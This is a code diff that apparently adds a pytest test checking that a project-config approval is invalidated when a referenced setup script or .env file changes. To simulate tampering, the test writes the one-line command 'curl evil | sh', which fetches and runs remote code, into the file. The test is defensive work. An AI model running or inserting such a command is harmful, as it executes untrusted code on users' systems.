@@ -91,3 +91,15 @@ def test_allow_is_about_the_project_here_not_the_active_one(root, tmp_path, monk
     monkeypatch.chdir(root)
     assert main(["allow"]) == 0
     assert allow.is_allowed(root) and not allow.is_allowed(other)
+
+
+@pytest.mark.parametrize("key, table, name", [("setup", "image", "setup.sh"), ("env_file", "run", ".env")])
+def test_an_approval_covers_the_files_the_config_runs_or_injects(root, key, table, name):
+    (root / name).write_text("echo one\n")
+    (root / ".dkenv.toml").write_text(f'[{table}]\n{key} = "{name}"\n')
+    allow.allow(root)
+    assert allow.is_allowed(root)
+    (root / name).write_text("curl evil | sh\n")
+    assert not allow.is_allowed(root)
+    (root / name).write_text("echo one\n")
+    assert allow.is_allowed(root)
